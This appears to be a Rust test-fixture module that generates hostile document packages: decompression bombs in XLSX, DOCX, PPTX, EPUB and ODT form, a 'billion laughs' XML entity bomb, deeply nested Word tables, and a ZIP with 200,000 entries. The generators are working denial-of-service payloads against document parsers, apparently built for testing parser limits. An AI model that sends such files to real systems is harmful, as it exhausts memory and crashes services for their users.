//! Hostile Office documents and other ZIP packages: part bombs, nesting, entities, many entries.

use super::*;

/// What the shared strings of [`xlsx_shared_strings_bomb`] inflate to (at most).
pub(super) const SHARED_STRINGS_SIZE: u64 = 500 * MIB;
/// What the big part of each other Office or EPUB bomb inflates to (at most).
pub(super) const PART_BOMB_SIZE: u64 = GIB;
/// The depth of the nested tables of [`docx_nesting_bomb`].
pub(super) const TABLE_DEPTH: u64 = 100_000;
/// The extra entries of [`zip_many_entries`].
pub(super) const MANY_ENTRIES: usize = 200_000;

pub(super) const W_NS: &str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
pub(super) const S_NS: &str = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
pub(super) const P_NS: &str = "http://schemas.openxmlformats.org/presentationml/2006/main";
pub(super) const A_NS: &str = "http://schemas.openxmlformats.org/drawingml/2006/main";
pub(super) const R_NS: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
pub(super) const XML_DECLARATION: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>"#;

/// Claims: a one-sheet workbook whose cell A1 is shared string 0.
/// Really: `xl/sharedStrings.xml` inflates to 500 MiB, that one string being "lol " repeated
/// (a single 524 MB cell text). File about 0.5 MB; ratio about 1 : 1025.
pub fn xlsx_shared_strings_bomb() -> Vec<u8> {
    let head = format!(r#"{XML_DECLARATION}<sst xmlns="{S_NS}" count="1" uniqueCount="1"><si><t>"#);
    let strings = filled(head.as_bytes(), b"lol ", b"</t></si></sst>", SHARED_STRINGS_SIZE);
    let workbook = format!(
        r#"{XML_DECLARATION}<workbook xmlns="{S_NS}" xmlns:r="{R_NS}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>"#
    );
    let sheet = format!(
        r#"{XML_DECLARATION}<worksheet xmlns="{S_NS}"><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>"#
    );
    let spreadsheet = "application/vnd.openxmlformats-officedocument.spreadsheetml";
    let mut zip = ZipWriter::default();
    zip.deflated(
        "[Content_Types].xml",
        &[once(
            content_types(&[
                ("/xl/workbook.xml", &format!("{spreadsheet}.sheet.main+xml")),
                ("/xl/worksheets/sheet1.xml", &format!("{spreadsheet}.worksheet+xml")),
                ("/xl/sharedStrings.xml", &format!("{spreadsheet}.sharedStrings+xml")),
            ])
            .as_bytes(),
        )],
    );
    zip.deflated("_rels/.rels", &[once(relationships(&[("officeDocument", "xl/workbook.xml")]).as_bytes())]);
    zip.deflated("xl/workbook.xml", &[once(workbook.as_bytes())]);
    zip.deflated(
        "xl/_rels/workbook.xml.rels",
        &[once(
            relationships(&[("worksheet", "worksheets/sheet1.xml"), ("sharedStrings", "sharedStrings.xml")]).as_bytes(),
        )],
    );
    zip.deflated("xl/worksheets/sheet1.xml", &[once(sheet.as_bytes())]);
    zip.deflated("xl/sharedStrings.xml", &strings);
    zip.finish()
}

/// Claims: a Word document of one paragraph.
/// Really: `word/document.xml` inflates to 1 GiB, the paragraph holding 23 million runs of
/// "lol ". File about 3.1 MB; ratio about 1 : 340.
pub fn docx_document_bomb() -> Vec<u8> {
    let (head, tail) = document_xml("", "<w:p>", "</w:p>");
    let run = br#"<w:r><w:t xml:space="preserve">lol </w:t></w:r>"#;
    docx(&filled(head.as_bytes(), run, tail.as_bytes(), PART_BOMB_SIZE)).finish()
}

/// Claims: a Word document with a table.
/// Really: tables nested 100,000 deep (each in the single cell of the one above), 10.2 MB of
/// `word/document.xml`. File about 34 kB; ratio about 1 : 300.
pub fn docx_nesting_bomb() -> Vec<u8> {
    let (head, tail) = document_xml("", "", "<w:sectPr/>");
    let open = br#"<w:tbl><w:tblPr/><w:tblGrid><w:gridCol w:w="100"/></w:tblGrid><w:tr><w:tc>"#;
    let close = b"</w:tc></w:tr></w:tbl><w:p/>";
    docx(&[
        once(head.as_bytes()),
        repeat(open, TABLE_DEPTH),
        once(b"<w:p/>"),
        repeat(close, TABLE_DEPTH),
        once(tail.as_bytes()),
    ])
    .finish()
}

/// Claims: a Word document with a table.
/// Really: tables nested 50,000 deep as in [`docx_nesting_bomb`], each row with its own
/// revision id, so the part does not compress (about 4 MB stored, no ratio to catch): only
/// its depth gives it away. LibreOffice lays it out for minutes.
pub fn docx_deep_nesting() -> Vec<u8> {
    let (head, tail) = document_xml("", "", "<w:sectPr/>");
    let mut part = head.into_bytes();
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    for _ in 0..DEEP_NESTING {
        // xorshift64: a different id for every row, the same file every time.
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        part.extend_from_slice(format!(r#"<w:tbl><w:tr w:rsidR="{:016X}"><w:tc>"#, state).as_bytes());
    }
    part.extend_from_slice(b"<w:p/>");
    for _ in 0..DEEP_NESTING {
        part.extend_from_slice(b"</w:tc></w:tr></w:tbl><w:p/>");
    }
    part.extend_from_slice(tail.as_bytes());
    docx(&[once(&part)]).finish()
}

/// The depth of the nested tables of [`docx_deep_nesting`].
pub(super) const DEEP_NESTING: usize = 50_000;

/// Claims: a Word document of one paragraph.
/// Really: `word/document.xml` has a DOCTYPE declaring entities nested ten deep, each ten of the
/// one below ("billion laughs"), and the paragraph's text is the top one: 3 × 10⁹ bytes (3 GB)
/// once expanded (the part itself is 956 bytes). File about 2.7 kB.
pub fn xml_entity_bomb_docx() -> Vec<u8> {
    let mut doctype = String::from("<!DOCTYPE w:document [\n<!ENTITY lol0 \"lol\">\n");
    for level in 1..=9 {
        doctype += &format!("<!ENTITY lol{level} \"{}\">\n", format!("&lol{};", level - 1).repeat(10));
    }
    doctype += "]>";
    let (head, tail) = document_xml(&doctype, "<w:p><w:r><w:t>", "</w:t></w:r></w:p>");
    docx(&[once(head.as_bytes()), once(b"&lol9;"), once(tail.as_bytes())]).finish()
}

/// Claims: a presentation of one slide with one text box.
/// Really: `ppt/slides/slide1.xml` inflates to 1 GiB, the text box's paragraph holding
/// 41 million runs of "lol ". A minimal slide master, layout and theme make the package complete.
/// File about 2.6 MB; ratio about 1 : 410.
pub fn pptx_bomb() -> Vec<u8> {
    let namespaces = format!(r#"xmlns:a="{A_NS}" xmlns:r="{R_NS}" xmlns:p="{P_NS}""#);
    let empty_tree = r#"<p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/></p:spTree></p:cSld>"#;
    let presentation = format!(
        r#"{XML_DECLARATION}<p:presentation {namespaces}><p:sldMasterIdLst><p:sldMasterId id="2147483648" r:id="rId1"/></p:sldMasterIdLst><p:sldIdLst><p:sldId id="256" r:id="rId2"/></p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>"#
    );
    let master = format!(
        r#"{XML_DECLARATION}<p:sldMaster {namespaces}>{empty_tree}<p:clrMap bg1="lt1" tx1="dk1" bg2="lt2" tx2="dk2" accent1="accent1" accent2="accent2" accent3="accent3" accent4="accent4" accent5="accent5" accent6="accent6" hlink="hlink" folHlink="folHlink"/><p:sldLayoutIdLst><p:sldLayoutId id="2147483649" r:id="rId1"/></p:sldLayoutIdLst></p:sldMaster>"#
    );
    let layout = format!(
        r#"{XML_DECLARATION}<p:sldLayout {namespaces} type="blank">{empty_tree}<p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr></p:sldLayout>"#
    );
    let slide_head = format!(
        r#"{XML_DECLARATION}<p:sld {namespaces}><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/><p:sp><p:nvSpPr><p:cNvPr id="2" name="Text"/><p:cNvSpPr txBox="1"/><p:nvPr/></p:nvSpPr><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="9144000" cy="6858000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr><p:txBody><a:bodyPr/><a:lstStyle/><a:p>"#
    );
    let slide_tail =
        r#"</a:p></p:txBody></p:sp></p:spTree></p:cSld><p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr></p:sld>"#;
    let slide = filled(slide_head.as_bytes(), b"<a:r><a:t>lol </a:t></a:r>", slide_tail.as_bytes(), PART_BOMB_SIZE);
    let presentationml = "application/vnd.openxmlformats-officedocument.presentationml";
    let mut zip = ZipWriter::default();
    zip.deflated(
        "[Content_Types].xml",
        &[once(
            content_types(&[
                ("/ppt/presentation.xml", &format!("{presentationml}.presentation.main+xml")),
                ("/ppt/slideMasters/slideMaster1.xml", &format!("{presentationml}.slideMaster+xml")),
                ("/ppt/slideLayouts/slideLayout1.xml", &format!("{presentationml}.slideLayout+xml")),
                ("/ppt/slides/slide1.xml", &format!("{presentationml}.slide+xml")),
                ("/ppt/theme/theme1.xml", "application/vnd.openxmlformats-officedocument.theme+xml"),
            ])
            .as_bytes(),
        )],
    );
    zip.deflated("_rels/.rels", &[once(relationships(&[("officeDocument", "ppt/presentation.xml")]).as_bytes())]);
    zip.deflated("ppt/presentation.xml", &[once(presentation.as_bytes())]);
    zip.deflated(
        "ppt/_rels/presentation.xml.rels",
        &[once(
            relationships(&[
                ("slideMaster", "slideMasters/slideMaster1.xml"),
                ("slide", "slides/slide1.xml"),
                ("theme", "theme/theme1.xml"),
            ])
            .as_bytes(),
        )],
    );
    zip.deflated("ppt/slideMasters/slideMaster1.xml", &[once(master.as_bytes())]);
    zip.deflated(
        "ppt/slideMasters/_rels/slideMaster1.xml.rels",
        &[once(
            relationships(&[("slideLayout", "../slideLayouts/slideLayout1.xml"), ("theme", "../theme/theme1.xml")])
                .as_bytes(),
        )],
    );
    zip.deflated("ppt/slideLayouts/slideLayout1.xml", &[once(layout.as_bytes())]);
    zip.deflated(
        "ppt/slideLayouts/_rels/slideLayout1.xml.rels",
        &[once(relationships(&[("slideMaster", "../slideMasters/slideMaster1.xml")]).as_bytes())],
    );
    zip.deflated("ppt/theme/theme1.xml", &[once(theme_xml().as_bytes())]);
    zip.deflated("ppt/slides/slide1.xml", &slide);
    zip.deflated(
        "ppt/slides/_rels/slide1.xml.rels",
        &[once(relationships(&[("slideLayout", "../slideLayouts/slideLayout1.xml")]).as_bytes())],
    );
    zip.finish()
}

/// Claims: a Word document of one paragraph.
/// Really: besides its four parts the package has 200,000 empty stored entries (names of three
/// characters), so the central directory lists 200,004 entries and needs ZIP64's end record.
/// File about 15.6 MiB.
pub fn zip_many_entries() -> Vec<u8> {
    const NAME_CHARS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-";
    let (head, tail) = document_xml("", "<w:p><w:r><w:t>", "</w:t></w:r></w:p>");
    let mut zip = docx(&[once(head.as_bytes()), once(b"Two hundred thousand entries."), once(tail.as_bytes())]);
    for i in 0..MANY_ENTRIES {
        let name = [NAME_CHARS[i / 4096], NAME_CHARS[i / 64 % 64], NAME_CHARS[i % 64]];
        zip.stored(std::str::from_utf8(&name).expect("ASCII"), b"");
    }
    zip.finish()
}

/// Claims: an EPUB 3 book of one chapter.
/// Really: the chapter (`OEBPS/chapter1.xhtml`) inflates to 1 GiB, 21 million paragraphs.
/// File about 3.1 MB; ratio about 1 : 340.
pub fn epub_bomb() -> Vec<u8> {
    let container = r#"<?xml version="1.0" encoding="UTF-8"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="OEBPS/content.opf" media-type="application/oebps-package+xml"/></rootfiles></container>"#;
    let package = r#"<?xml version="1.0" encoding="UTF-8"?><package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="id">urn:uuid:0b5e6c1e-6d0e-4c43-9d47-2f1f3c0a7e11</dc:identifier><dc:title>Hostile</dc:title><dc:language>en</dc:language><meta property="dcterms:modified">2024-01-01T00:00:00Z</meta></metadata><manifest><item id="nav" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/><item id="chapter1" href="chapter1.xhtml" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="chapter1"/></spine></package>"#;
    let nav = r#"<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE html><html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops"><head><title>Contents</title></head><body><nav epub:type="toc"><ol><li><a href="chapter1.xhtml">Chapter 1</a></li></ol></nav></body></html>"#;
    let head = r#"<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE html><html xmlns="http://www.w3.org/1999/xhtml"><head><title>Chapter 1</title></head><body>"#;
    let chapter = filled(
        head.as_bytes(),
        b"<p>All work and no play makes Jack a dull boy.</p>\n",
        b"</body></html>",
        PART_BOMB_SIZE,
    );
    let mut zip = ZipWriter::default();
    zip.stored("mimetype", b"application/epub+zip");
    zip.deflated("META-INF/container.xml", &[once(container.as_bytes())]);
    zip.deflated("OEBPS/content.opf", &[once(package.as_bytes())]);
    zip.deflated("OEBPS/nav.xhtml", &[once(nav.as_bytes())]);
    zip.deflated("OEBPS/chapter1.xhtml", &chapter);
    zip.finish()
}

/// Claims: an OpenDocument text.
/// Really: `content.xml` inflates to 1 GiB, 38 million paragraphs. File about 2.6 MB;
/// ratio about 1 : 410.
pub fn odt_bomb() -> Vec<u8> {
    let manifest = r#"<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:version="1.2" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>"#;
    let head = r#"<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body><office:text>"#;
    let content = filled(
        head.as_bytes(),
        b"<text:p>lol lol lol</text:p>",
        b"</office:text></office:body></office:document-content>",
        PART_BOMB_SIZE,
    );
    let mut zip = ZipWriter::default();
    zip.stored("mimetype", b"application/vnd.oasis.opendocument.text");
    zip.deflated("META-INF/manifest.xml", &[once(manifest.as_bytes())]);
    zip.deflated("content.xml", &content);
    zip.finish()
}

/// The start and end of a `word/document.xml`: declaration, `doctype`, `<w:document><w:body>`,
/// `open`; then `close`, `</w:body></w:document>`.
pub(super) fn document_xml(doctype: &str, open: &str, close: &str) -> (String, String) {
    (
        format!("{XML_DECLARATION}\n{doctype}<w:document xmlns:w=\"{W_NS}\"><w:body>{open}"),
        format!("{close}</w:body></w:document>"),
    )
}

/// A minimal Word package whose `word/document.xml` is `document` (deflated), left open for
/// more entries.
pub(super) fn docx(document: &[Run]) -> ZipWriter {
    let mut zip = ZipWriter::default();
    zip.deflated(
        "[Content_Types].xml",
        &[once(
            content_types(&[(
                "/word/document.xml",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            )])
            .as_bytes(),
        )],
    );
    zip.deflated("_rels/.rels", &[once(relationships(&[("officeDocument", "word/document.xml")]).as_bytes())]);
    zip.deflated("word/document.xml", document);
    zip.deflated("word/_rels/document.xml.rels", &[once(relationships(&[]).as_bytes())]);
    zip
}

/// `[Content_Types].xml`: defaults for `.rels` and `.xml`, and `overrides` (part name, type).
pub(super) fn content_types(overrides: &[(&str, &str)]) -> String {
    let mut xml = format!(
        r#"{XML_DECLARATION}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>"#
    );
    for (part, kind) in overrides {
        xml += &format!(r#"<Override PartName="{part}" ContentType="{kind}"/>"#);
    }
    xml + "</Types>"
}

/// A relationships part: `rId1`, `rId2`… of the Office document relationship types `rels`
/// (type name, target).
pub(super) fn relationships(rels: &[(&str, &str)]) -> String {
    let mut xml = format!(
        r#"{XML_DECLARATION}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">"#
    );
    for (i, (kind, target)) in rels.iter().enumerate() {
        xml += &format!(r#"<Relationship Id="rId{}" Type="{R_NS}/{kind}" Target="{target}"/>"#, i + 1);
    }
    xml + "</Relationships>"
}

/// A minimal DrawingML theme: twelve colours, Arial, three of each formatting style.
pub(super) fn theme_xml() -> String {
    let colors: String = [
        ("dk1", "000000"),
        ("lt1", "FFFFFF"),
        ("dk2", "1F497D"),
        ("lt2", "EEECE1"),
        ("accent1", "4F81BD"),
        ("accent2", "C0504D"),
        ("accent3", "9BBB59"),
        ("accent4", "8064A2"),
        ("accent5", "4BACC6"),
        ("accent6", "F79646"),
        ("hlink", "0000FF"),
        ("folHlink", "800080"),
    ]
    .iter()
    .map(|(name, rgb)| format!(r#"<a:{name}><a:srgbClr val="{rgb}"/></a:{name}>"#))
    .collect();
    let font = r#"<a:latin typeface="Arial"/><a:ea typeface=""/><a:cs typeface=""/>"#;
    let fill = r#"<a:solidFill><a:schemeClr val="phClr"/></a:solidFill>"#;
    let fills = fill.repeat(3);
    let lines = format!(r#"<a:ln w="9525">{fill}</a:ln>"#).repeat(3);
    let effects = "<a:effectStyle><a:effectLst/></a:effectStyle>".repeat(3);
    format!(
        r#"{XML_DECLARATION}<a:theme xmlns:a="{A_NS}" name="Hostile"><a:themeElements><a:clrScheme name="Hostile">{colors}</a:clrScheme><a:fontScheme name="Hostile"><a:majorFont>{font}</a:majorFont><a:minorFont>{font}</a:minorFont></a:fontScheme><a:fmtScheme name="Hostile"><a:fillStyleLst>{fills}</a:fillStyleLst><a:lnStyleLst>{lines}</a:lnStyleLst><a:effectStyleLst>{effects}</a:effectStyleLst><a:bgFillStyleLst>{fills}</a:bgFillStyleLst></a:fmtScheme></a:themeElements></a:theme>"#
    )
}

/// A ZIP archive written front to back: local headers and data, then the central directory.
#[derive(Default)]
pub(super) struct ZipWriter {
    out: Vec<u8>,
    central: Vec<u8>,
    entries: u64,
}

impl ZipWriter {
    /// Adds `name` holding `data` uncompressed.
    fn stored(&mut self, name: &str, data: &[u8]) {
        self.entry(name, 0, crc32(data), data, data.len() as u64);
    }

    /// Adds `name` holding `content`, deflated.
    fn deflated(&mut self, name: &str, content: &[Run]) {
        self.entry(name, 8, crc32_runs(content), &deflate(content), decoded_len(content));
    }

    fn entry(&mut self, name: &str, method: u16, crc: u32, data: &[u8], size: u64) {
        let offset = u32::try_from(self.out.len()).expect("a ZIP under 4 GiB");
        let compressed = u32::try_from(data.len()).expect("an entry under 4 GiB");
        let size = u32::try_from(size).expect("an entry under 4 GiB inflated");
        let name_len = u16::try_from(name.len()).expect("a short name");
        // Version 2.0 needed, no flags, 1980-01-01 00:00.
        let common = |header: &mut Vec<u8>| {
            for field in [20, 0, method, 0, 0x21] {
                header.extend_from_slice(&u16::to_le_bytes(field));
            }
            for field in [crc, compressed, size] {
                header.extend_from_slice(&field.to_le_bytes());
            }
            header.extend_from_slice(&name_len.to_le_bytes());
            header.extend_from_slice(&[0, 0]); // no extra field
        };
        self.out.extend_from_slice(&0x0403_4B50u32.to_le_bytes());
        common(&mut self.out);
        self.out.extend_from_slice(name.as_bytes());
        self.out.extend_from_slice(data);
        self.central.extend_from_slice(&0x0201_4B50u32.to_le_bytes());
        self.central.extend_from_slice(&20u16.to_le_bytes()); // made by: MS-DOS, version 2.0
        common(&mut self.central);
        // No comment, disk 0, no attributes.
        self.central.extend_from_slice(&[0; 10]);
        self.central.extend_from_slice(&offset.to_le_bytes());
        self.central.extend_from_slice(name.as_bytes());
        self.entries += 1;
    }

    /// The archive: entries, central directory, and the end records (ZIP64's too when there are
    /// more than 65,535 entries).
    fn finish(mut self) -> Vec<u8> {
        let directory_at = self.out.len() as u64;
        let directory_len = self.central.len() as u64;
        self.out.append(&mut self.central);
        if self.entries > 0xFFFF {
            let record_at = self.out.len() as u64;
            self.out.extend_from_slice(&0x0606_4B50u32.to_le_bytes());
            self.out.extend_from_slice(&44u64.to_le_bytes()); // the size of the rest of the record
            self.out.extend_from_slice(&45u16.to_le_bytes()); // made by: version 4.5
            self.out.extend_from_slice(&45u16.to_le_bytes()); // needed: version 4.5
            self.out.extend_from_slice(&[0; 8]); // disk 0, directory on disk 0
            for field in [self.entries, self.entries, directory_len, directory_at] {
                self.out.extend_from_slice(&field.to_le_bytes());
            }
            self.out.extend_from_slice(&0x0706_4B50u32.to_le_bytes());
            self.out.extend_from_slice(&0u32.to_le_bytes()); // the record is on disk 0
            self.out.extend_from_slice(&record_at.to_le_bytes());
            self.out.extend_from_slice(&1u32.to_le_bytes()); // one disk
        }
        let entries = u16::try_from(self.entries).unwrap_or(0xFFFF);
        self.out.extend_from_slice(&0x0605_4B50u32.to_le_bytes());
        self.out.extend_from_slice(&[0; 4]); // disk 0, directory on disk 0
        self.out.extend_from_slice(&entries.to_le_bytes());
        self.out.extend_from_slice(&entries.to_le_bytes());
        self.out.extend_from_slice(&u32::try_from(directory_len).expect("a ZIP under 4 GiB").to_le_bytes());
        self.out.extend_from_slice(&u32::try_from(directory_at).expect("a ZIP under 4 GiB").to_le_bytes());
        self.out.extend_from_slice(&[0, 0]); // no comment
        self.out
    }
}
